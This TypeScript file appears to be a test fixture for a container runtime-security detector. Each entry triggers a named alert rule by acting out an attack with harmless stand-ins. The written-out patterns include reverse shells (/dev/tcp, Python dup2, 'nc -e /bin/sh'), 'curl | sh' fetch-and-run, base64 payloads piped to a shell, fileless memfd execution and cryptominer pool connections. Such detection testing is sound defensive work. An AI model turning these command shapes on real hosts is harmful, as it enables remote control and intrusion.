/** Coming in, and running what was brought along. */
import { type Attack, disguised, fake, outside, python } from './attack.ts';

export const entry: Attack[] = [
  {
    name: 'a shell with a terminal',
    script: 'sh -c id',
    terminal: true,
    official: 'Terminal shell in container',
    chain: ['sh', '*', '*'],
  },
  {
    name: 'a web server starts a shell',
    script: disguised('nginx', 'system("sh", "-c", "id; :")'),
    official: 'Run shell untrusted',
    chain: ['sh', 'nginx', 'sh'],
  },
  {
    name: 'a web server starts a shell, as newer rules have it',
    script: disguised('apache2', 'system("bash", "-c", "id; :")'),
    official: 'Web Server Spawned Shell',
    chain: ['bash', 'apache2', 'sh'],
  },
  {
    name: 'a web server asks who it is',
    script: disguised('php-fpm', 'system("whoami")'),
    official: 'Web Server Spawned Suspicious Child Process',
    chain: ['whoami', 'php-fpm', 'sh'],
  },
  {
    name: 'a web server calls home',
    script: disguised('httpd', 'system("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9; :")'),
    official: 'Reverse Shell from Web Server',
    chain: ['bash', 'httpd', 'sh'],
  },
  {
    name: 'a key-value store starts a shell',
    script: disguised('redis-server', 'system("bash", "-c", "id; :")'),
    official: 'Run shell untrusted',
    chain: ['bash', 'redis-server', 'sh'],
  },
  {
    name: 'a database starts a program',
    script: disguised('mysqld', 'system("id")'),
    official: 'DB program spawned process',
    chain: ['id', 'mysqld', 'sh'],
  },
  {
    name: 'a reverse shell in Python',
    script: python(`
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
client = socket.create_connection(server.getsockname())
for fd in (0, 1, 2): os.dup2(client.fileno(), fd)
os.execv("/bin/sh", ["sh", "-c", "id"])`),
    official: 'Redirect STDOUT/STDIN to Network Connection in Container',
    chain: ['python3', 'sh', 'sh'],
  },
  {
    name: 'netcat with a shell behind it',
    script: `${fake('nc')} -e /bin/sh 127.0.0.1 4444`,
    official: 'Netcat Remote Code Execution in Container',
    chain: ['nc', 'sh', 'sh'],
  },
  {
    name: 'ncat with a shell behind it',
    script: `${fake('ncat')} --sh-exec /bin/sh 127.0.0.1 4444`,
    official: 'Netcat Remote Code Execution in Container',
    chain: ['ncat', 'sh', 'sh'],
  },
  {
    name: 'a program that was not in the image',
    script: 'cp /bin/ls /tmp/dropped && /tmp/dropped /',
    official: 'Drop and execute new binary in container',
    chain: ['dropped', 'sh', 'sh'],
  },
  {
    name: 'a program in memory alone',
    script: python(`
fd = os.memfd_create("payload")
os.write(fd, open("/bin/true", "rb").read())
if os.fork() == 0: os.execve(fd, ["payload"], dict(os.environ))
os.wait()`),
    official: 'Fileless execution via memfd_create',
    chain: ['*', 'python3', 'sh'],
  },
  {
    name: 'a script in shared memory',
    script: `echo id > /dev/shm/script; sh /dev/shm/script`,
    official: 'Execution from /dev/shm',
    chain: ['sh', 'sh', 'sh'],
  },
  {
    name: 'a payload that comes in letters',
    script: `sh -c 'echo aWQK | base64 -d | sh'`,
    official: 'Decoding Payload in Container',
    chain: ['*', 'sh', 'sh'],
  },
  {
    name: 'a package manager',
    script: 'apt-get install -y nmap',
    official: 'Launch Package Management Process in Container',
    chain: ['apt-get', 'sh', 'sh'],
  },
  {
    name: 'a package manager of Python',
    script: `${fake('pip3')} install evil`,
    official: 'Launch Package Management Process in Container',
    chain: ['pip3', 'sh', 'sh'],
  },
  {
    name: 'a file is fetched with wget',
    script: `${fake('wget')} http://127.0.0.1/payload`,
    official: 'Launch Ingress Remote File Copy Tools in Container',
    chain: ['wget', 'sh', 'sh'],
  },
  {
    name: 'a script is fetched and run',
    script: `sh -c 'curl -s -o - http://127.0.0.1/payload | sh'`,
    official: 'Launch Ingress Remote File Copy Tools in Container',
    chain: ['*', 'sh', 'sh'],
  },
  {
    name: 'a network tool below an installation of npm',
    script: disguised('npm', 'system("mkdir -p /opt/eg; cp /bin/true /opt/eg/nc; /opt/eg/nc 127.0.0.1 9")'),
    official: 'Network Tool Executed During NPM Package Install',
    chain: ['nc', 'sh', 'npm'],
  },
  {
    name: 'a miner',
    script: `${fake('xmrig')} -o pool`,
    official: 'Known Cryptominer Process Executed',
    chain: ['xmrig', 'sh', 'sh'],
  },
  {
    name: 'a miner’s protocol',
    script: `${fake('kworkerd')} -o stratum+tcp://pool.example:3333`,
    official: 'Detect crypto miners using the Stratum protocol',
    chain: ['kworkerd', 'sh', 'sh'],
  },
  {
    name: 'a miner connects to its pool',
    script: `${outside('203.0.113.20', 3333)}
bash -c 'exec 3<>/dev/tcp/203.0.113.20/3333'`,
    box: 'privileged',
    official: 'System procs network activity',
    chain: ['bash', 'sh', 'sh'],
  },
  {
    name: 'SSH to a port of the web',
    script: `${outside('203.0.113.21', 443)}
${disguised('ssh', 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, pack_sockaddr_in(443, inet_aton("203.0.113.21")))')}`,
    box: 'privileged',
    official: 'Disallowed SSH Connection Non Standard Port',
    chain: ['ssh', 'sh', 'sh'],
  },
  {
    name: 'a client of Kubernetes',
    script: `${fake('kubectl')} get secrets`,
    official: 'Kubernetes Client Tool Launched in Container',
    chain: ['kubectl', 'sh', 'sh'],
  },
];
